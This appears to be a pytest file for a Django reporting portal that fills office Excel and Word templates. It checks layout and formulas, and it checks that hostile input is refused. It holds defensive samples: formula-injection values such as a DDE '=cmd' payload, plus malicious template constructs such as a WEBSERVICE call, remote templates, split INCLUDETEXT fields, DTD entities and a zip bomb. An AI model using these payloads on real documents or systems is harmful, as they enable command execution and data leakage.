"""The office's own templates: filled by name, never run; what is hostile does not come in; what is misspelt is told with what was meant."""

import dataclasses
import datetime
import io
from decimal import Decimal
from typing import Any

import docx
import openpyxl
import pytest
from django.core.exceptions import ValidationError

from portal.tablero.informes import cifras as c
from portal.tablero.informes.escribir import Emision
from portal.tablero.informes.plantillas import excel, revision, word
from portal.tablero.informes.plantillas.campos import TODOS
from portal.tablero.informes.plantillas.formulas import al_insertar, mover
from portal.tablero.informes.plantillas.revision import revisar_plantilla
from tests.informes import libros

D = Decimal
EMISION = Emision("vie 27 nov 2026, 10:20", "Coordinador de la UGEL", {})
HOSTILES = ["=cmd|'/c calc'!A1", "+51 976 000 000", "-Techado", "@SUM(A1)", "\t=1+1", "#N/A", "a,=1", "{{distrito}}", "<w:p/>&\x07"]


def compromiso(n: int, **campos: Any) -> c.FilaCompromiso:
    valores: dict[str, Any] = dict.fromkeys(("convenio", "distritos", "linea", "debe", "responsable", "unidad", "medido_en"), "x")
    valores |= {
        "codigo": f"C-{n}",
        "descripcion": f"Compromiso {n}",
        "plazo": datetime.date(2026, 3, n % 28 + 1),
        "meta": D(10),
        "hecho": D(n),
    }
    valores |= {"avance": D("12.5"), "situacion": "vencido", "decidido_el": None, "debe_datos": ()}
    return c.FilaCompromiso(**valores | campos)


def cifras(cuantos: int = 3, **campos: Any) -> c.Cifras:
    par = (D(4), D(5))
    actividad = c.FilaActividad("Huabal", "A-1", "Talleres", "talleres", "", "", (par,) * 4, (par,) * 4, D(16), D("125.0"))
    plan = c.FilaPlan("Huabal", "060805", 2026, "CM", "Aprobado", False, D("50.0"), "", D(100), D(40), D(40), (), (actividad,))
    dia = datetime.date(2026, 11, 27)
    valores: dict[str, Any] = {
        "de": c.Alcance("distrito", "Informe", "UGEL Jaén", "060008", distrito="Huabal"), "anio": 2026, "trimestre": 4, "corte": "Hoy",
        "dia": dia, "cerrado": False, "desde": dia, "hasta": dia, "compromisos": tuple(compromiso(n) for n in range(1, cuantos + 1)),
        "distritos": (), "planes": (plan,), "avances": (), "nudos": (), "acuerdos": (), "deudas": (), "partes": (), "fuentes": (),
        "demostracion": False,
    }  # fmt: skip
    return c.Cifras(**valores | campos)


def en_excel(contenido: bytes, de: c.Cifras) -> Any:
    revisar_plantilla("matriz.xlsx", contenido)
    return openpyxl.load_workbook(io.BytesIO(excel.rellenar(contenido, de, EMISION)))


# ── The matrix comes out as it went in ───────────────────────────────────────────────────────────────────────────────────
@pytest.mark.parametrize("cuantos", [1, 3, 40])
def test_the_matrix_of_the_office_comes_out_with_its_rows_and_its_totals(cuantos):
    libro = en_excel(libros.matriz(), cifras(cuantos))
    hoja, ultima = libro["Matriz 2026"], 8 + cuantos - 1
    assert (hoja["A1"].value, hoja["A2"].value) == ("UGEL Jaén", "MATRIZ DE SEGUIMIENTO DE COMPROMISOS - DISTRITO DE Huabal")
    assert (hoja["B3"].value.date(), hoja["B4"].value) == (datetime.date(2026, 11, 27), cuantos)
    for n, fila in enumerate(range(8, ultima + 1), start=1):
        dichas = [hoja.cell(fila, columna).value for columna in range(1, 9)]
        dichas[3], plazo = dichas[3].date(), datetime.date(2026, 3, n % 28 + 1)
        assert dichas == [f"C-{n}", f"Compromiso {n}", "x", plazo, 10, n, f"=IF(ISNUMBER(E{fila}),F{fila}/E{fila},0)", "Vencido"]
        assert hoja.cell(fila, 1).border.top.style == "thin"
        assert (hoja.cell(fila, 7).number_format, hoja.cell(fila, 4).number_format) == ("0.0%", "dd-mm-yy")
        assert hoja.row_dimensions[fila].height == 31.5
    total = ultima + 1
    assert [hoja.cell(total, columna).value for columna in (1, 5, 6, 7)] == [
        "TOTAL", f"=SUM(E8:E{ultima})", f"=SUM($F$8:$F${ultima})", f'=IF(E{total}=0,"",F{total}/E{total})',
    ]  # fmt: skip
    assert (hoja.cell(total, 5).font.b, hoja.row_dimensions[total].height) == (True, 20)
    combinadas = {str(r) for r in hoja.merged_cells.ranges}
    assert combinadas == {"A1:H1", "A2:H2", "E6:G6", f"A{total}:D{total}", f"B{total + 3}:D{total + 3}"}
    assert hoja.cell(total + 3, 2).value == "Coordinación de la UGEL"
    assert [hoja.column_dimensions[letra].width for letra in "ABCDEFGH"] == [8, 46, 22, 13, 9, 9, 8, 15]
    assert [str(f.sqref) for f in hoja.conditional_formatting] == ["H8" if cuantos == 1 else f"H8:H{ultima}"]
    assert [str(v.sqref) for v in hoja.data_validations.dataValidation] == [f"H8:H{total}"]
    assert (hoja.auto_filter.ref, hoja.freeze_panes, hoja.print_title_rows) == (f"A7:H{ultima}", "A8", "$7:$7")
    assert hoja.print_area.rpartition("!")[2] == f"$A$1:$H${13 + cuantos - 1}"
    assert hoja.oddFooter.center.text == "Emitido vie 27 nov 2026, 10:20"
    assert [libro["Resumen"][lugar].value for lugar in ("B1", "B2")] == [f"='Matriz 2026'!E{total}", f"=SUM('Matriz 2026'!E8:E{ultima})"]
    assert libro.calculation.fullCalcOnLoad


def test_without_rows_it_says_so_and_keeps_its_shape():
    hoja = en_excel(libros.matriz(), cifras(0))["Matriz 2026"]
    assert [hoja.cell(8, columna).value or "" for columna in (1, 2, 8)] == ["Ninguno.", "", ""]
    assert hoja["E9"].value == "=SUM(E8:E8)"


def test_what_is_not_known_is_said_and_is_no_zero():
    hoja = en_excel(libros.matriz(), cifras(1, compromisos=(compromiso(1, meta=None, plazo=None),)))["Matriz 2026"]
    assert (hoja["D8"].value, hoja["E8"].value) == ("sin dato", "sin dato")


@pytest.mark.promesa("P20")
@pytest.mark.parametrize("hostil", HOSTILES)
def test_no_value_becomes_a_formula_nor_a_field(hostil):
    fila = compromiso(1, codigo=hostil, descripcion=hostil, responsable=hostil)
    contenido = libros.libro({"A1": "{{compromiso.codigo}}", "B1": "Nota: {{compromiso.descripcion}}", "C1": "{{compromiso.responsable}}"})
    celdas = en_excel(contenido, cifras(1, compromisos=(fila,))).active[1]
    assert {celda.data_type for celda in celdas} == {"s"}
    assert not any(str(celda.value).startswith(("=", "+", "-", "@", "\t")) for celda in celdas)
    documento = docx.Document(
        io.BytesIO(word.rellenar(libros.documento(), cifras(1, de=dataclasses.replace(cifras().de, distrito=hostil)), EMISION))
    )
    assert "instrText" not in documento.element.xml
    assert documento.paragraphs[0].text == "Distrito: " + "".join(x for x in hostil if x not in "\x07").replace("\t", "\t")


def test_the_shield_is_what_keeps_a_value_from_running(monkeypatch):
    """Control: without it, and with the type left to be guessed, the text is a formula."""
    monkeypatch.setattr(excel, "_escribir_texto", lambda celda, texto: setattr(celda, "value", texto))
    hoja = en_excel(libros.libro({"A1": "{{compromiso.codigo}}"}), cifras(1, compromisos=(compromiso(1, codigo="=1+1"),))).active
    assert hoja["A1"].data_type == "f"


def test_a_document_of_the_office_is_filled_also_where_word_cut_its_fields():
    contenido = libros.documento()
    assert revisar_plantilla("informe.docx", contenido).formato == "docx"
    hecho = docx.Document(io.BytesIO(word.rellenar(contenido, cifras(1, demostracion=True), EMISION)))
    assert hecho.sections[0].header.paragraphs[0].text == "UGEL Jaén · Hoy"
    assert [p.text for p in hecho.paragraphs][:2] == ["DATOS DE DEMOSTRACIÓN: no son reales", "Distrito: Huabal"]
    assert [[celda.text for celda in fila.cells] for fila in hecho.tables[0].rows] == [
        ["Código", "Actividad", "Meta I / hecho I"],
        ["A-1", "Talleres", "4 / 5"],
        ["Total: 40.00", "", ""],
    ]


def test_every_field_can_be_read_from_a_report():
    contenido = libros.libro({f"A{n}": f"{{{{{nombre}}}}}" for n, nombre in enumerate(sorted(TODOS), start=1)})
    de_lista = [n for n in TODOS if n.startswith(("compromiso.", "actividad."))]
    hoja = en_excel(contenido, cifras(1)).active
    assert not any("{{" in str(celda.value) for fila in hoja.iter_rows() for celda in fila)
    assert len(de_lista) > 30


# ── What does not come in ────────────────────────────────────────────────────────────────────────────────────────────────
def _dtd(xml: bytes) -> bytes:
    return (
        b'<!DOCTYPE workbook [<!ENTITY a "b">]>' + xml.partition(b"?>")[2]
        if xml.startswith(b"<?")
        else b'<!DOCTYPE x [<!ENTITY a "b">]>' + xml
    )


RUTA = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
NO_ENTRAN = {
    "macros": ("m.xlsx", lambda: libros.con(libros.matriz(), {"xl/vbaProject.bin": b"x"})),
    "vínculo a otro libro": ("m.xlsx", lambda: libros.con(libros.matriz(), {"xl/externalLinks/externalLink1.xml": b"<a/>"})),
    "conexión de datos": ("m.xlsx", lambda: libros.con(libros.matriz(), {"xl/connections.xml": b"<a/>"})),
    "objeto incrustado": ("m.docx", lambda: libros.con(libros.documento(), {"word/embeddings/oleObject1.bin": b"x"})),
    "DTD": ("m.xlsx", lambda: libros.con(libros.matriz(), {"xl/workbook.xml": _dtd})),
    "DTD en UTF-16": ("m.docx", lambda: libros.con(libros.documento(), {"word/x.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x/>'.encode("utf-16")})),
    "bomba": ("m.xlsx", lambda: libros.con(libros.matriz(), {"xl/media/x.xml": b"0" * (9 * 1024 * 1024)})),
    "celda en el fin del mundo": ("m.xlsx", lambda: libros.libro({"A1": "{{distrito}}", "A1000000": 1})),
    "combinadas sin fin": ("m.xlsx", lambda: libros.con(libros.matriz(), {"xl/worksheets/sheet1.xml": lambda x: x.replace(b'ref="E6:G6"', b'ref="A10:XFD900000"')})),
    "DDE en una fórmula": ("m.xlsx", lambda: libros.libro({"A1": "{{distrito}}", "B1": "=cmd|'/c calc'!A1"})),
    "WEBSERVICE": ("m.xlsx", lambda: libros.libro({"A1": "{{distrito}}", "B1": '=WEBSERVICE("http://x/"&A1)'})),
    "otro libro en una fórmula": ("m.xlsx", lambda: libros.libro({"A1": "{{distrito}}", "B1": "=[1]Hoja1!A1"})),
    "plantilla remota": ("m.docx", lambda: libros.con_vinculo(libros.documento(), "word/_rels/document.xml.rels", b"attachedTemplate", b"http://x/t.dotm")),
    "imagen remota": ("m.docx", lambda: libros.con_vinculo(libros.documento(), "word/_rels/document.xml.rels", b"image", b"http://x/i.png")),
    "enlace a un archivo": ("m.docx", lambda: libros.con_vinculo(libros.documento(), "word/_rels/document.xml.rels", b"hyperlink", b"file:///c:/x")),
    "INCLUDETEXT en trozos": ("m.docx", lambda: libros.con_campo_de_word("INCLU", 'DETEXT "http://x"')),
    "no es un ZIP": ("m.xlsx", lambda: b"%PDF-1.7"),
    "es otra cosa": ("m.docx", lambda: libros.con(libros.documento(), {"xl/workbook.xml": b"<a/>"})),
    "nombre que miente": ("m.docx", libros.matriz),
    "pesa demasiado": ("m.xlsx", lambda: b"PK\x03\x04" + b"0" * (2 * 1024 * 1024)),
}  # fmt: skip


@pytest.mark.promesa("P33")
@pytest.mark.parametrize("caso", NO_ENTRAN)
def test_what_is_hostile_does_not_come_in(caso):
    nombre, hacer = NO_ENTRAN[caso]
    with pytest.raises(ValidationError) as error:
        revisar_plantilla(nombre, hacer())
    assert error.value.messages[0].endswith((".", "»."))


@pytest.mark.promesa("P33")
@pytest.mark.parametrize("caso", ["DTD", "plantilla remota", "DDE en una fórmula", "INCLUDETEXT en trozos"])
@pytest.mark.control
def test_the_look_at_its_pieces_is_what_refuses(caso, monkeypatch):
    """Control: with it left out, the same file is taken."""
    monkeypatch.setattr(revision, "_comprobar_piezas", lambda archivo: None)
    nombre, hacer = NO_ENTRAN[caso]
    assert revisar_plantilla(nombre, hacer()).campos


def test_a_hyperlink_that_a_person_follows_may_stay():
    contenido = libros.con_vinculo(libros.documento(), "word/_rels/document.xml.rels", b"hyperlink", b"https://ejemplo.pe")
    assert revisar_plantilla("m.docx", contenido).campos


@pytest.mark.parametrize(
    ("celdas", "dicho"),
    [
        ({"A1": "{{distritto}}"}, "«{{distritto}}» no es un campo. ¿Quiso decir {{distrito}}"),
        ({"A1": "{{distrito}}", "B1": "{{zzz}}"}, "«{{zzz}}» no es un campo."),
        ({"A1": "{{distrito"}, "llaves sin pareja"),
        ({"A1": "{{distrito}}", "B1": "{% if x %}"}, "una plantilla solo lleva campos, no un lenguaje"),
        ({"A1": "{{compromiso.codigo}}", "B1": "{{actividad.codigo}}"}, "lleva campos de dos listas"),
        ({"A1": '=CONCAT("{{distrito}}",1)'}, "un campo no va dentro de una fórmula"),
        ({"A1": "Nada"}, "No lleva ningún campo"),
    ],
)
def test_what_is_misspelt_is_told_with_what_was_meant(celdas, dicho):
    with pytest.raises(ValidationError) as error:
        revisar_plantilla("m.xlsx", libros.libro(celdas))
    assert dicho in " ".join(error.value.messages)


def test_a_total_that_names_one_cell_is_warned_of():
    revisada = revisar_plantilla("m.xlsx", libros.libro({"A1": "{{compromiso.meta}}", "A2": "=SUM(A1)"}))
    assert "su fórmula nombra una sola celda" in revisada.avisos[0]


@pytest.mark.parametrize(
    ("antes", "despues"),
    [
        ("=SUM(E8:E8)", "=SUM(E8:E12)"),
        ("=E9*2+$A$7", "=E13*2+$A$7"),
        ("=SUM(E:E)+SUM(7:9)", "=SUM(E:E)+SUM(7:13)"),
        ("='Matriz 2026'!E9&\"E9\"", "='Matriz 2026'!E13&\"E9\""),
        ("=Otra!E9", "=Otra!E9"),
        ("=VLOOKUP(A9,Lista,2,0)", "=VLOOKUP(A13,Lista,2,0)"),
    ],
)
def test_formulas_follow_the_rows_that_come_in(antes, despues):
    assert mover(antes, al_insertar(8, 4), en="Matriz 2026", de="Matriz 2026") == despues
